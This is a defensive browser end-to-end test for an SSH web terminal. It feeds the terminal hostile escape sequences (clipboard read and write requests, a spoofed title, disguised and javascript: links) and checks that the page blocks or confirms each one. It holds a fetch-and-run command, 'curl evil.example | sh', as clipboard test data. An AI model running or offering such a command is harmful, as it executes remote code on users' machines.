// Escape sequences from a hostile SSH server, in a real browser (issue 12, item 1; the review
// is in docs/terminal.md). The server is the hostile-server kit's FakeServer playing a shell
// (test/ssh/fixtures/fake-shell-server.ts) on our veth address, reached from the page through
// the whole chain: `corridor serve` → the relay's UDP bridge → wireguard-go in a namespace,
// where a small TCP forwarder on the tunnel address passes port 22 to it.
//
// Chromium gets both clipboard permissions, so a read WOULD succeed if the page attempted one,
// and the clipboard holds a known value first. Then the server asks to read the clipboard and
// to set it: nothing goes back to the server (what it received is exactly what was typed), the
// clipboard keeps its value until the person clicks, and writes happen by themselves only for a
// host the person allowed (and are shown). Titles stay plain text beside user@host; a link shows
// its real target, opens only after a click and a confirmation, and then in a tab with neither
// opener nor referrer. Screenshots of the notice and the setting at 1280x800 and 390x844 go
// to build/e2e-artifacts/. The session is opened once (beforeAll); each test starts with the
// known clipboard, no notice and no host allowed (beforeEach) and counts only the input it
// caused, so any one of them runs alone.

import { Buffer } from "node:buffer";
import { mkdirSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";
import type { ServeHandle } from "../../server/web/serve.ts";
import { loadCryptoCore } from "../../worker/crypto/index.ts";
import { generatePrivateKey } from "../../worker/wireguard/keys.ts";
import { launchChromium } from "../helpers/chromium.ts";
import { describeWithPrereq } from "../helpers/prereq.ts";
import type { WgHost } from "../interop/wg-host.ts";
import {
  type FakeShellServer,
  type FakeShellSession,
  startFakeShellServer,
} from "../ssh/fixtures/fake-shell-server.ts";
import { REPO_ROOT } from "./serve-pages.ts";
import {
  buildPage,
  createLabHost,
  importLabNetwork,
  labPrereq,
  openLabPage,
  startLabServe,
} from "./wg-lab.ts";

const ARTIFACTS = join(REPO_ROOT, "build", "e2e-artifacts");
const need = labPrereq();

const USER = "osc-tester";
const KNOWN = "the person's own clipboard 7f3a";
const EVIL = "curl evil.example | sh";
const b64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
const osc52Write = (text: string) => `\x1b]52;c;${b64(text)}\x07`;
const OSC52_READ = "\x1b]52;c;?\x07";

// Runs in the namespace: tunnel address:22 → the fake server on our veth address.
const FORWARDER = `
const net = require("node:net");
const [listenHost, listenPort, toHost, toPort] = process.argv.slice(1);
net.createServer((inbound) => {
  const outbound = net.connect(Number(toPort), toHost);
  inbound.pipe(outbound);
  outbound.pipe(inbound);
  inbound.on("error", () => outbound.destroy());
  outbound.on("error", () => inbound.destroy());
}).listen(Number(listenPort), listenHost, () => console.log("forwarding"));
`;

describeWithPrereq(need, "terminal escape sequences from a hostile SSH server", () => {
  let tmp = "";
  let privateKey: Uint8Array = new Uint8Array(32);
  let host: WgHost;
  let shells: FakeShellServer;
  let shell: FakeShellSession;
  let serve: ServeHandle;
  let context: BrowserContext;
  let page: Page;
  let closeBrowser: () => Promise<void> = async () => undefined;
  const problems: string[] = [];
  const consoleLines: string[] = [];
  const shot = async (name: string) => {
    await page.screenshot({ path: join(ARTIFACTS, `osc-${name}-1280x800.png`) });
    await page.setViewportSize({ width: 390, height: 844 });
    // On a phone the sidebar covers the terminal until hidden (a modal dialog sits above both).
    const hideSidebar =
      (await page.locator("dialog[open]").count()) === 0 &&
      (await page.locator(".app").getAttribute("data-sidebar")) === "open";
    if (hideSidebar) await page.getByTestId("menu-toggle").click();
    await page.screenshot({ path: join(ARTIFACTS, `osc-${name}-390x844.png`) });
    // The toggle shows only on narrow screens: put the sidebar back before widening.
    if (hideSidebar) await page.getByTestId("menu-toggle").click();
    await page.setViewportSize({ width: 1280, height: 800 });
  };
  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
  const setClipboard = (text: string) =>
    page.evaluate((t) => navigator.clipboard.writeText(t), text);
  const terminalText = () => page.evaluate(() => window.corridorDebug?.terminalText(0) ?? "");
  const waitForTerminal = (pattern: RegExp) =>
    expect.poll(terminalText, { timeout: 15_000 }).toMatch(pattern);
  const notice = () => page.getByTestId("clipboard-notice");
  /**
   * Types `marker` and waits until the server has it; returns what the server received since
   * `from` (an earlier input().length). Input arrives in order, so all of it is there.
   */
  const typedAndReceived = async (marker: string, from: number) => {
    await page.getByTestId("terminal").first().click();
    await page.keyboard.type(marker);
    return (await shell.waitForInput(new RegExp(`${marker}$`))).slice(from);
  };
  let outputs = 0;
  /** Sends output and waits until xterm has shown the (numbered, unique) line after it. */
  const outputThen = async (data: string, marker: string) => {
    const line = `${marker}-${++outputs}`;
    shell.output(`${data}${line}\r\n`);
    await waitForTerminal(new RegExp(`${line}$`, "m"));
  };
  /** Turns a write into a grant as a person would: the offer's "Allow for this host". */
  const allowThisHost = async (text: string) => {
    await outputThen(osc52Write(text), `granting-${text}`);
    await page.getByTestId("clipboard-allow").click();
    await expect.poll(clipboard).toBe(text);
  };

  beforeAll(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    tmp = await mkdtemp(join(tmpdir(), "corridor-osc-"));
    const webRoot = await buildPage(tmp);
    privateKey = generatePrivateKey();
    host = await createLabHost(privateKey, "cosc");
    shells = await startFakeShellServer({ core: await loadCryptoCore(), host: host.ourAddress });
    const forwarder = host.spawn([
      process.execPath,
      "-e",
      FORWARDER,
      host.tunnelAddress,
      "22",
      host.ourAddress,
      String(shells.port),
    ]);
    await new Promise<void>((resolve, reject) => {
      let errors = "";
      forwarder.stderr?.on("data", (chunk: Buffer) => {
        errors += chunk.toString();
      });
      forwarder.stdout?.on("data", (chunk: Buffer) => {
        if (chunk.toString().includes("forwarding")) resolve();
      });
      forwarder.on("exit", (code) => reject(new Error(`forwarder exited ${code}: ${errors}`)));
    });
    serve = await startLabServe(host, webRoot, "e2e-osc");
    const browser = await launchChromium();
    closeBrowser = () => browser.close();
    context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    // Both permissions: a clipboard read by the page would succeed, so only the page's own
    // refusal keeps the clipboard from the server.
    await context.grantPermissions(["clipboard-read", "clipboard-write"], {
      origin: new URL(serve.url).origin,
    });
    page = await openLabPage(context, problems);
    page.on("console", (message) => consoleLines.push(`${message.type()}: ${message.text()}`));
    // The page, the network, and a shell on the fake server (every test starts from here).
    await importLabNetwork(page, serve.url, "osc-lab", privateKey, host);
    await page.getByTestId("network-item").filter({ hasText: "osc-lab" }).click();
    const hostItem = page.locator(
      `[data-testid="host-item"][data-address="${host.tunnelAddress}"]`,
    );
    // Online (a round trip in ms) before connecting: the tunnel is up.
    await hostItem
      .getByTestId("host-status")
      .filter({ hasText: /ms/ })
      .waitFor({ timeout: 20_000 });
    await hostItem.getByTestId("ssh-button").click();
    await page.getByTestId("ssh-user").fill(USER);
    await page.getByTestId("ssh-connect").click();
    await page.getByTestId("hostkey-trust").click();
    const sessionReady = shells.nextSession();
    await page.waitForFunction(() => window.corridorDebug?.sessionState(0) === "connected", null, {
      timeout: 30_000,
    });
    shell = await sessionReady;
    expect(shell.requests).toContain("pty-req");
    await setClipboard(KNOWN);
    expect(await clipboard()).toBe(KNOWN);
  }, 180_000);

  // Each test starts with the known clipboard, no notice and no host allowed to write.
  beforeEach(async () => {
    await setClipboard(KNOWN);
    if (await notice().isVisible()) await page.getByTestId("clipboard-dismiss").click();
    if ((await page.getByTestId("settings-dialog").count()) === 0) {
      await page.getByTestId("settings-button").click();
    }
    const remove = page.getByTestId("clipboard-grant-remove");
    while ((await remove.count()) > 0) await remove.first().click();
    await page.getByTestId("clipboard-grants-empty").waitFor();
    await page.keyboard.press("Escape");
    await page.getByTestId("settings-dialog").waitFor({ state: "detached" });
  });

  afterEach(async (test) => {
    // No test may leave a page error or a broken fake-server script behind it.
    expect(problems).toEqual([]);
    expect(shells?.errors ?? []).toEqual([]);
    if (test.task.result?.state === "fail" && page) {
      console.log(`page console before the failure:\n${consoleLines.slice(-30).join("\n")}`);
      const name = test.task.name.replace(/[^a-z0-9]+/gi, "-").slice(0, 60);
      await page
        .screenshot({ path: join(ARTIFACTS, `failed-osc-${name}.png`) })
        .catch(() => undefined);
    }
  });

  afterAll(async () => {
    await closeBrowser();
    await serve?.close();
    await shells?.close();
    await host?.close();
    if (tmp) await rm(tmp, { recursive: true, force: true });
  }, 60_000);

  it("refuses a clipboard read: nothing reaches the server, and says so", async () => {
    const from = shell.input().length;
    await outputThen(`prompt$ ${OSC52_READ}`, "after-read");
    // Exactly what was typed: no OSC 52 answer (not even an empty one) came before it.
    expect(await typedAndReceived("a", from)).toBe("a");
    expect(await clipboard()).toBe(KNOWN);
    await expect.poll(() => notice().getAttribute("data-kind")).toBe("read-refused");
    expect(await page.getByTestId("clipboard-notice-text").textContent()).toBe(
      `${USER}@${host.tunnelAddress} asked to read your clipboard. Refused: a server never reads it.`,
    );
  }, 30_000);

  it("holds a write until the person clicks, and shows what it would copy", async () => {
    const from = shell.input().length;
    await outputThen(osc52Write(EVIL), "after-write");
    expect(await clipboard()).toBe(KNOWN);
    expect(await typedAndReceived("b", from)).toBe("b");
    await expect.poll(() => notice().getAttribute("data-kind")).toBe("offer");
    expect(await page.getByTestId("clipboard-notice-text").textContent()).toBe(
      `${USER}@${host.tunnelAddress} wants to copy 22 characters to your clipboard: “${EVIL}”.`,
    );
    await shot("offer");

    await page.getByTestId("clipboard-copy-once").click();
    await expect.poll(clipboard).toBe(EVIL);
    await expect.poll(() => notice().getAttribute("data-kind")).toBe("copied");
    // Once is once: the next write is offered again.
    await setClipboard(KNOWN);
    await outputThen(osc52Write("second"), "after-second");
    await expect.poll(() => notice().getAttribute("data-kind")).toBe("offer");
    expect(await clipboard()).toBe(KNOWN);
  }, 30_000);

  it("writes by itself for an allowed host, shows every write, and still never reads", async () => {
    await allowThisHost("granted");
    const from = shell.input().length;
    await outputThen(osc52Write("third ✓\nline"), "after-third");
    await expect.poll(clipboard).toBe("third ✓\nline");
    await expect.poll(() => notice().getAttribute("data-kind")).toBe("wrote");
    expect(await page.getByTestId("clipboard-notice-text").textContent()).toBe(
      `${USER}@${host.tunnelAddress} wrote 12 characters to your clipboard: “third ✓↵line”.`,
    );
    await shot("wrote");
    await outputThen(OSC52_READ, "after-read-2");
    expect(await typedAndReceived("c", from)).toBe("c");
    expect(await clipboard()).toBe("third ✓\nline");
  }, 30_000);

  it("lists the allowed host in the settings, where it can be revoked", async () => {
    await allowThisHost("granted");
    await page.getByTestId("settings-button").click();
    const grant = page.getByTestId("clipboard-grant");
    await expect.poll(() => grant.textContent()).toMatch(`${host.tunnelAddress}:22 on osc-lab`);
    await shot("settings");
    await grant.getByTestId("clipboard-grant-remove").click();
    await page.getByTestId("clipboard-grants-empty").waitFor();
    await page.keyboard.press("Escape");
    await setClipboard(KNOWN);
    await outputThen(osc52Write("fourth"), "after-fourth");
    await expect.poll(() => notice().getAttribute("data-kind")).toBe("offer");
    expect(await clipboard()).toBe(KNOWN);
  }, 30_000);

  it("keeps a remote title as plain text beside user@host, never as the page title", async () => {
    const pageTitle = await page.title();
    shell.output(`\x1b]2;build\x01 log\u202e  ${"x".repeat(200)}\x07after-title\r\n`);
    await waitForTerminal(/after-title/);
    const title = page.getByTestId("remote-title");
    await expect.poll(() => title.textContent()).toBe(`build log ${"x".repeat(69)}…`);
    expect(await page.title()).toBe(pageTitle);
    expect(await page.getByTestId("terminal-tab").first().textContent()).toContain(
      `${host.tunnelAddress} · ${USER}`,
    );
  }, 30_000);

  it("shows a link's real target and opens it only after a click and a confirmation", async () => {
    // Row 1: an OSC 8 link whose text names another site; row 2: a javascript: link.
    shell.output(
      "\x1b[2J\x1b[H" +
        "\x1b]8;;https://evil.example/steal\x07https://docs.example/\x1b]8;;\x07\r\n" +
        "\x1b]8;;javascript:alert(1)\x07run-me\x1b]8;;\x07\r\nafter-links\r\n",
    );
    await waitForTerminal(/after-links/);
    const screen = page.locator(".xterm-screen").first();
    const box = (await screen.boundingBox())!;
    // The grid as the server last heard it (pty-req, window-change): the input typed after
    // the last resize has arrived, so the resize before it has too.
    await typedAndReceived("d", 0);
    const { cols, rows } = shell.size();
    const cell = { w: box.width / cols, h: box.height / rows };
    const at = (col: number, row: number) => ({
      x: box.x + (col + 0.5) * cell.w,
      y: box.y + (row + 0.5) * cell.h,
    });
    const pagesBefore = context.pages().length;

    let point = at(4, 0);
    await page.mouse.move(point.x, point.y);
    await expect
      .poll(() => page.getByTestId("link-preview").textContent())
      .toBe("https://evil.example/steal");
    await page.mouse.click(point.x, point.y);
    const dialog = page.getByTestId("link-dialog");
    await dialog.waitFor();
    expect(await dialog.getByTestId("link-href").textContent()).toBe("https://evil.example/steal");
    await shot("link-dialog");
    await dialog.getByTestId("dialog-cancel").click();
    expect(context.pages().length).toBe(pagesBefore);

    // The javascript: link is no link: no target shown, and its click opens nothing.
    point = at(2, 1);
    await page.mouse.move(point.x, point.y);
    await page.mouse.click(point.x, point.y);
    expect(await page.getByTestId("link-preview").isHidden()).toBe(true);

    // The real link, opened this time. Had the click above opened a dialog, it would come
    // first (dialogs queue). The site is answered by the test (no network here).
    const referers: (string | undefined)[] = [];
    await context.route("https://evil.example/**", (route) => {
      referers.push(route.request().headers().referer);
      return route.fulfill({ contentType: "text/html", body: "<title>landing</title>" });
    });
    point = at(4, 0);
    await page.mouse.move(point.x, point.y);
    await page.mouse.click(point.x, point.y);
    await dialog.waitFor();
    expect(await dialog.getByTestId("link-href").textContent()).toBe("https://evil.example/steal");
    const opened = context.waitForEvent("page");
    await dialog.getByTestId("link-open").click();
    const tab = await opened;
    await tab.waitForLoadState();
    expect(tab.url()).toBe("https://evil.example/steal");
    // noopener and noreferrer: the site cannot reach back into Corridor's page or learn its URL.
    expect(await tab.evaluate(() => window.opener === null)).toBe(true);
    expect(await tab.evaluate(() => document.referrer)).toBe("");
    expect(referers).toEqual([undefined]);
    await tab.close();
    expect(context.pages().length).toBe(pagesBefore);
    expect(await page.getByTestId("link-dialog").count()).toBe(0);
  }, 30_000);
});
